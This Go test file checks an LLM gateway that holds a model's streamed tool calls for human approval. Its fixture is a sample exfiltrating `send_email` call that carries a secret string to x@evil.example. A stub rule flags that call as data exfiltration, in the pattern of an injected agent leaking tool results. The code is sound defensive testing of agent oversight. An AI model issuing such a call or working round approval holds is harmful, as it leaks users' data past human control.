package gateway

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/aegis-sentinel/aegis/internal/approval"
	"github.com/aegis-sentinel/aegis/internal/clock"
	"github.com/aegis-sentinel/aegis/internal/events"
	"github.com/aegis-sentinel/aegis/internal/upstream"
	"github.com/aegis-sentinel/aegis/internal/validator"
)

// secretArg is an argument value no message, event or record may carry.
const secretArg = "Quartz-Lantern-7731"

const mailReq = `{"messages":[{"role":"user","content":"summarise my mail"}],"stream":%s,
"tools":[{"type":"function","function":{"name":"send_email","parameters":{"type":"object","properties":{"to":{"type":"string"},"body":{"type":"string"}}}}}]}`

var mailArgs = `{"to":"x@evil.example","body":"` + secretArg + `"}`

// flowCheck stands for the flow rule: a call to an evil.example address
// is private data going where nobody trusted asked it to go.
type flowCheck struct{}

func (flowCheck) Name() string                  { return "flow_test" }
func (flowCheck) Write(p []byte) (int, error)   { return len(p), nil }
func (flowCheck) Settled() int                  { return 1 << 30 }
func (flowCheck) Findings() []validator.Finding { return nil }
func (flowCheck) Close()                        {}
func (flowCheck) CheckToolCall(c validator.ToolCall) []validator.Finding {
	if !strings.Contains(c.Arguments, "evil.example") {
		return nil
	}
	return []validator.Finding{{Check: "flow_test", Reason: validator.Reason("data_exfiltration"),
		Path: "tool_calls/0/arguments/body", Message: "`body` carries 19 bytes of a tool result to a destination only a tool result named"}}
}

// approvalRig is a gateway whose policy sends the mail call to a person,
// on a fake clock, with its approvals queue, API and events.
type approvalRig struct {
	clk  *clock.Fake
	q    *approval.Queue
	url  string
	api  *approval.Client
	loop *loopWatch
	sub  *events.Subscription
}

func newApprovalRig(t *testing.T) *approvalRig {
	t.Helper()
	up := fakeUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/event-stream")
		w.Write(sseBody(toolChunk(0, "call_1", "send_email", ""), toolChunk(0, "", "", mailArgs[:9]),
			toolChunk(0, "", "", mailArgs[9:]), toolFinish))
	})
	rig := &approvalRig{clk: clock.NewFake(time.Date(2026, 11, 28, 12, 0, 0, 0, time.UTC)), q: &approval.Queue{}, loop: newLoopWatch()}
	bus := &events.Bus{Clock: rig.clk}
	rig.sub = bus.Subscribe(256)
	t.Cleanup(rig.sub.Close)
	pol := withCheck(mustPolicy(t, "approval: {timeout: 10m}\n"), "flow_test", func(*validator.Request) validator.Validator { return flowCheck{} })
	pol.Version = "sha256:test-policy-v1"
	g := &Gateway{Upstreams: []*upstream.Upstream{up}, Policy: pol, Approvals: rig.q, Clock: rig.clk, Events: bus,
		KeepAlive: 15 * time.Second, waitHook: rig.loop.hook}
	rig.url = start(t, g).URL
	t.Cleanup(func() { // a failed test must not leave a call held while the server closes
		for _, r := range rig.q.Pending() {
			rig.q.Decide(r.ID, approval.Decision{By: "cleanup"})
		}
	})
	api := httptest.NewServer(approval.Handler(rig.q.Desk()))
	t.Cleanup(api.Close)
	rig.api = &approval.Client{Base: api.URL}
	return rig
}

// held waits until the gateway waits on an approval, and returns it.
func (rig *approvalRig) held(t *testing.T) events.ApprovalRecord {
	t.Helper()
	rig.loop.until(t, "a call held for approval", func(s loopState) bool { return s.approval != "" })
	recs, err := rig.api.List(context.Background())
	if err != nil || len(recs) != 1 {
		t.Fatalf("pending approvals = %+v, %v; want one", recs, err)
	}
	return recs[0]
}

// stages returns the approval stages the bus carried, in order, and
// fails when any event holds the argument's value.
func (rig *approvalRig) stages(t *testing.T, n int) []string {
	t.Helper()
	var out []string
	for len(out) < n {
		e := receive(t, rig.sub.C, "an approval event")
		b, _ := json.Marshal(e)
		if strings.Contains(string(b), secretArg) {
			t.Errorf("a %s event carries the argument's value: %s", e.Kind, b)
		}
		if e.Kind == events.Approval {
			out = append(out, e.Approval.Stage)
		}
	}
	return out
}

// TestApprovalStreamHeldThenReleased: the streamed call is held; the
// client gets a keep-alive comment after each 15 s of silence while the
// call waits; once approved over the API the call goes out intact. The
// record names the tool, the argument paths and the rule, never a value;
// proposed, approved and released are three events.
func TestApprovalStreamHeldThenReleased(t *testing.T) {
	rig := newApprovalRig(t)
	got := lines(t, rig.url+"/v1/chat/completions", strings.Replace(mailReq, "%s", "true", 1))
	rec := rig.held(t)
	if len(rec.Calls) != 1 || rec.Calls[0].Tool != "send_email" || strings.Join(rec.Calls[0].Paths, ",") != "body,to" ||
		rec.Reason != "data_exfiltration" || !strings.Contains(rec.Rule, "carries 19 bytes of a tool result") || rec.PolicyVersion != "sha256:test-policy-v1" {
		t.Errorf("record = %+v", rec)
	}
	if b, _ := json.Marshal(rec); strings.Contains(string(b), secretArg) || strings.Contains(string(b), "evil.example") {
		t.Errorf("the record shows argument values: %s", b)
	}
	start := rec.Time
	for _, silence := range []time.Duration{15 * time.Second, 30 * time.Second} {
		due := start.Add(silence)
		rig.loop.until(t, "the keep-alive due at "+silence.String(), func(s loopState) bool { return s.approval != "" && s.keepAlive.Equal(due) })
		rig.clk.Set(due)
		if l := receive(t, got, "a keep-alive comment"); !strings.HasPrefix(l, ":") {
			t.Fatalf("held stream sent %q before the decision", l)
		}
	}
	if _, err := rig.api.Approve(context.Background(), rec, "test"); err != nil {
		t.Fatal(err)
	}
	var args strings.Builder
	var rest []string
	for l := range got {
		rest = append(rest, l)
		var c struct {
			Choices []struct {
				Delta struct {
					ToolCalls []struct{ Function struct{ Arguments string } } `json:"tool_calls"`
				}
			}
		}
		if json.Unmarshal([]byte(strings.TrimPrefix(l, "data: ")), &c) == nil && len(c.Choices) > 0 {
			for _, tc := range c.Choices[0].Delta.ToolCalls {
				args.WriteString(tc.Function.Arguments)
			}
		}
	}
	if args.String() != mailArgs || rest[len(rest)-1] != "data: [DONE]" {
		t.Fatalf("released arguments %q (want %q), stream:\n%s", args.String(), mailArgs, strings.Join(rest, "\n"))
	}
	if s := rig.stages(t, 3); strings.Join(s, ",") != "proposed,approved,released" {
		t.Errorf("stages = %v", s)
	}
}

// TestApprovalDenied: a denied call is refused with the reason's error
// code and a message that says a person denied it, and no argument value.
func TestApprovalDenied(t *testing.T) {
	rig := newApprovalRig(t)
	res := make(chan *http.Response, 1)
	go func() { res <- post(t, rig.url+"/v1/chat/completions", strings.Replace(mailReq, "%s", "false", 1)) }()
	rec := rig.held(t)
	if _, err := rig.api.Deny(context.Background(), rec.ID, "test"); err != nil {
		t.Fatal(err)
	}
	resp := receive(t, res, "the answer")
	body := string(readAllBody(t, resp))
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, `"code":"aegis_data_exfiltration"`) ||
		!strings.Contains(body, "a person denied the held tool call (approval "+rec.ID) || strings.Contains(body, secretArg) {
		t.Fatalf("status %d, body %s", resp.StatusCode, body)
	}
	if s := rig.stages(t, 2); strings.Join(s, ",") != "proposed,denied" {
		t.Errorf("stages = %v", s)
	}
}

// TestApprovalTimeout: nobody decides; at the policy's timeout on the
// gateway's clock the call is refused.
func TestApprovalTimeout(t *testing.T) {
	rig := newApprovalRig(t)
	res := make(chan *http.Response, 1)
	go func() { res <- post(t, rig.url+"/v1/chat/completions", strings.Replace(mailReq, "%s", "false", 1)) }()
	rec := rig.held(t)
	rig.clk.Set(rec.Deadline.Add(-time.Second))
	rig.loop.until(t, "the call still held a second before its deadline", func(s loopState) bool { return s.approval == rec.ID })
	if _, ok := rig.q.Get(rec.ID); !ok {
		t.Fatal("the call left the queue before its deadline")
	}
	rig.clk.Set(rec.Deadline)
	resp := receive(t, res, "the answer")
	body := string(readAllBody(t, resp))
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "nobody decided on the held tool call within 10m0s") {
		t.Fatalf("status %d, body %s", resp.StatusCode, body)
	}
	if _, err := rig.api.Approve(context.Background(), rec, "late"); err == nil || !strings.Contains(err.Error(), "404") {
		t.Errorf("a late approval: %v, want 404", err)
	}
	if s := rig.stages(t, 2); strings.Join(s, ",") != "proposed,expired" {
		t.Errorf("stages = %v", s)
	}
}

// TestApprovalBinding: an approval that names other arguments or another
// policy version is refused and the call stays held; after a policy
// reload a decision denies the call.
func TestApprovalBinding(t *testing.T) {
	rig := newApprovalRig(t)
	res := make(chan *http.Response, 1)
	go func() { res <- post(t, rig.url+"/v1/chat/completions", strings.Replace(mailReq, "%s", "false", 1)) }()
	rec := rig.held(t)
	other := approval.ArgsHash([]validator.ToolCall{{Name: "send_email", Arguments: `{"to":"boss@example.com","body":"hi"}`}})
	for _, tc := range []struct {
		name string
		d    approval.Decision
		want error
	}{
		{"other arguments", approval.Decision{Approve: true, ArgsHash: other, PolicyVersion: rec.PolicyVersion}, approval.ErrOtherArgs},
		{"other policy", approval.Decision{Approve: true, ArgsHash: rec.ArgsHash, PolicyVersion: "sha256:0000"}, approval.ErrOtherPolicy},
		{"unbound", approval.Decision{Approve: true}, approval.ErrUnbound},
	} {
		if _, err := rig.q.Decide(rec.ID, tc.d); !errors.Is(err, tc.want) {
			t.Errorf("%s: err = %v, want %v", tc.name, err, tc.want)
		}
		if _, ok := rig.q.Get(rec.ID); !ok {
			t.Fatalf("%s: the refused approval took the call out of the queue", tc.name)
		}
	}
	// Over the API a mismatch is 409 with the reason.
	bad := rec
	bad.ArgsHash = other
	if _, err := rig.api.Approve(context.Background(), bad, "api"); err == nil || !strings.Contains(err.Error(), "409") || !strings.Contains(err.Error(), "other arguments") {
		t.Errorf("API approval for other arguments: %v", err)
	}
	rig.q.PolicyVersion = func() string { return "sha256:reloaded" }
	if _, err := rig.q.Decide(rec.ID, approval.Decision{Approve: true, ArgsHash: rec.ArgsHash, PolicyVersion: rec.PolicyVersion}); !errors.Is(err, approval.ErrPolicyChanged) {
		t.Errorf("after a reload: err = %v, want %v", err, approval.ErrPolicyChanged)
	}
	resp := receive(t, res, "the answer")
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), "by policy reload") {
		t.Fatalf("status %d, body %s", resp.StatusCode, body)
	}
}

// TestApprovalNobodyToAsk: a policy that asks for approval on a gateway
// without an approval queue refuses the call at once.
func TestApprovalNobodyToAsk(t *testing.T) {
	up := fakeUpstream(t, func(w http.ResponseWriter, r *http.Request) {
		w.Write(sseBody(toolChunk(0, "call_1", "send_email", mailArgs), toolFinish))
	})
	pol := withCheck(mustPolicy(t, "approval: {timeout: 10m}\n"), "flow_test", func(*validator.Request) validator.Validator { return flowCheck{} })
	srv := start(t, &Gateway{Upstreams: []*upstream.Upstream{up}, Policy: pol})
	resp := post(t, srv.URL+"/v1/chat/completions", strings.Replace(mailReq, "%s", "false", 1))
	body := string(readAllBody(t, resp))
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(body, "no one can approve tool calls on this gateway") || strings.Contains(body, secretArg) {
		t.Fatalf("status %d, body %s", resp.StatusCode, body)
	}
}

// TestApprovalClientLeaves: a client that goes away while its call is
// held takes the call out of the queue; the record says cancelled.
func TestApprovalClientLeaves(t *testing.T) {
	rig := newApprovalRig(t)
	ctx, cancel := context.WithCancel(context.Background())
	req, _ := http.NewRequestWithContext(ctx, "POST", rig.url+"/v1/chat/completions", strings.NewReader(strings.Replace(mailReq, "%s", "true", 1)))
	req.Header.Set("Content-Type", "application/json")
	go func() {
		if resp, err := http.DefaultClient.Do(req); err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
		}
	}()
	rec := rig.held(t)
	cancel()
	if s := rig.stages(t, 2); strings.Join(s, ",") != "proposed,cancelled" {
		t.Errorf("stages = %v", s)
	}
	if _, ok := rig.q.Get(rec.ID); ok {
		t.Error("the call stayed held after its client left")
	}
}
